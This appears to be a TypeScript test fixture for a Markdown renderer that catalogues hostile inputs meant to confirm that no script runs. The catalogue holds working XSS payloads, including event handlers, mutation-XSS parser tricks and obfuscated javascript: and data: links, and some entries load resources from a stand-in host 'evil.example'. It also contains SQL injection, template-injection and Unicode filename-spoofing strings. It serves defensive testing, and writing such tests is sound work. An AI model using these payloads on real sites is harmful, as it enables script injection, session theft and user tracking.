/** What runs where a payload gets through; no page may ever have it. */
const RUN = 'window.__pwned=1';

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<IMG SRC=x OnErRoR='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>x</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onpointerover=${RUN} style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<a onmouseover="${RUN}" autofocus onfocus="${RUN}" href=#>x</a>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">x</b>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
];

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<script\x0c>${RUN}</script>`,
  `<iframe src="javascript:parent.${RUN.slice(7)}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<form action="javascript:${RUN}"><button>press</button></form>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<style>@import '//evil.example/x.css'; body{display:none}</style>`,
  `<style>*{background:url(//evil.example/x.png)}</style>`,
  `<plaintext>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
];

/** What a parser reads otherwise the second time. */
const MUTATING = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<math href="javascript:${RUN}">press</math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<svg><style>&lt;img src=x onerror=${RUN}&gt;</style></svg>`,
  `<table><td><svg><desc><td><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`,
  `\`\`<img src=x onerror=${RUN}>\`\` \`<script>${RUN}</script>\``,
];

const LINKS = [
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](javascript&colon;${RUN})`,
  `[press](javascript&#58;${RUN})`,
  `[press](java&#115;cript:${RUN})`,
  `[press](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN})`,
  `[press](java\tscript:${RUN})`,
  `[press](<java\nscript:${RUN}>)`,
  `[press](<javascript:${RUN}>)`,
  `[press](\u0001javascript:${RUN})`,
  `[press](\u2028javascript:${RUN})`,
  `[press]( \u00a0javascript:${RUN})`,
  `[press](\\javascript:${RUN})`,
  `[press](java%73cript:${RUN})`,
  `[press](javascript%3A${RUN})`,
  `[press](ｊavascript:${RUN})`,
  `[press](vbscript:msgbox(1))`,
  `[press](data:text/html,<script>${RUN}</script>)`,
  `[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[press](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3B3bmVkPTEiLz4=)`,
  `[press](blob:https://evil.example/x)`,
  `[press](file:///etc/passwd)`,
  `[press](//evil.example/)`,
  `[press](\\\\evil.example)`,
  `[press](/\\evil.example)`,
  `[press](https:javascript:${RUN})`,
  `[press](javascript://example.test/%0a${RUN})`,
  `[press](https://example.test/"onmouseover="${RUN})`,
  `[press](https://example.test "x\\" onmouseover=\\"${RUN}")`,
  `[press](https://example.test 'x" onmouseover="${RUN}')`,
  `[a](https://example.test/'"><img src=x onerror=${RUN}>)`,
  `[<img src=x onerror=${RUN}>](https://example.test/)`,
  `[![x](javascript:${RUN})](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<JAVASCRIPT&colon;${RUN}>`,
  `<data:text/html,<script>${RUN}</script>>`,
  `<https://example.test/"onclick="${RUN}">`,
  `https://example.test/"onmouseover="${RUN}"`,
  `https://example.test/<script>${RUN}</script>`,
  `<mailto:x@example.test?subject=<script>${RUN}</script>>`,
  `[one][evil]\n\n[evil]: javascript:${RUN}`,
  `[two][evil2]\n\n[evil2]: data:text/html,<script>${RUN}</script> "title"`,
  `[three]\n\n[three]: https://example.test '"><img src=x onerror=${RUN}>'`,
  `@<script>${RUN}</script> @"onmouseover="${RUN}`,
];

const IMAGES = [
  `![x](javascript:${RUN})`,
  `![x](https://evil.example/pixel.png)`,
  `![x](//evil.example/pixel.png)`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![x" onerror="${RUN}](/attachments/x)`,
  `![x](/attachments/x" onerror="${RUN})`,
  `![x](/attachments/../graphql)`,
  `![x](/attachments/%2e%2e/graphql)`,
  `![x](/attachments//evil.example/x)`,
  `![x][pixel]\n\n[pixel]: https://evil.example/pixel.png`,
  `<picture><source srcset="https://evil.example/pixel.png"><img></picture>`,
];

const SHAPES = [
  `> `.repeat(60) + `<img src=x onerror=${RUN}>`,
  `${'['.repeat(200)}x${']'.repeat(200)}(javascript:${RUN})`,
  `${'*'.repeat(101)}<b onclick=${RUN}>x${'*'.repeat(101)}`,
  `| a | b |\n|:--|--:|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `1. <svg onload=${RUN}>\n   - <img src=x onerror=${RUN}>`,
  `## <img src=x onerror=${RUN}>`,
  `    <script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `'"\`><script>${RUN}</script><img src=x onerror=${RUN}>`,
  `\u202e<script>${RUN}</script>\u202c`,
  `<\u200bscript>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\x1b[31m<script>${RUN}</script>`,
  `W${'o'.repeat(400)}rd`,
  `Z${'̴͇̈́'.repeat(60)}algo`,
  '👩‍👩‍👧‍👦'.repeat(50),
];

/** What swallows all that follows stands at the end. */
const OPEN_ENDED = [
  `~~~\n<script>${RUN}</script>`,
  `\`\`\`html"onload="${RUN}\n</code><img src=x onerror=${RUN}>`,
];

/** Markdown that tries to run a script, to send something elsewhere, or to break the page. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HANDLERS,
  ...ELEMENTS,
  ...MUTATING,
  ...LINKS,
  ...IMAGES,
  ...SHAPES,
  ...OPEN_ENDED,
];

/** The same as texts of at most `max` code points each, none of it left out. */
export function hostileTexts(max: number): string[] {
  const texts: string[] = [];
  let text = '';
  for (const one of HOSTILE_TEXTS) {
    if ([...text].length + [...one].length + 2 > max) {
      texts.push(text);
      text = '';
    }
    text += text === '' ? one : `\n\n${one}`;
  }
  return [...texts, text];
}

/** For names, titles and tags. */
export const HOSTILE_NAMES: readonly string[] = [
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  '</title></textarea></style>',
  '-->]]></item></feed>',
  'javascript:alert(1)',
  '\u202egnp.exe\u202c name',
  '\u2066\u2067\u2068isolated\u2069',
  'a\u200bb\u200cc\u200dd\ufeffe',
  `Zalgo${'̴͇̈́̀'.repeat(10)}`,
  '😀'.repeat(50),
  '👩‍👩‍👧‍👦'.repeat(7),
  'مرحبا بالعالم (test)',
  'שלום <b>עולם</b>',
  '﷽'.repeat(12),
  '𒐫'.repeat(12),
  'W'.repeat(50),
  '\u00a0\u2003 spaced \u3000 out',
  '&lt;b&gt;&amp;amp; &#x202e;',
  '{{7*7}} ${7*7} #{7*7} %s %n',
  `Robert'); DROP TABLE ideas;--`,
  '零一二三四五六七八九零一二三四五六七八九零一二三四五六七八九零一二三四五六七八九零一二三四五六七八九',
];
